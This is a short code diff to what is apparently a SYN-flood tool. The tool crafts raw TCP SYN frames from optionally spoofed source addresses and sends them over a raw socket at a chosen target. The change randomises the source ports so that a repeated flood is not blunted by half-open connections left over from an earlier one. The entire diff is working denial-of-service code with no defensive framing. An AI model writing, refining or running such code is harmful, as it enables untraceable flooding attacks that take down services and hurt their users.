@@ -76,8 +76,9 @@ def main() -> None:
     if options.spoof:
         sources = [one.packed for one in ipaddress.ip_network(options.spoof).hosts()]
     target = ipaddress.ip_address(options.target).packed
+    first = random.randrange(60000)  # a host may still know the half-open connections of an earlier flood
     frames = [
-        syn(macs, sources[n % len(sources)], target, (1024 + n // len(sources) * 3 % 60000, options.port))
+        syn(macs, sources[n % len(sources)], target, (1024 + (first + n // len(sources) * 3) % 60000, options.port))
         for n in range(options.number or TEMPLATES)
     ]
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
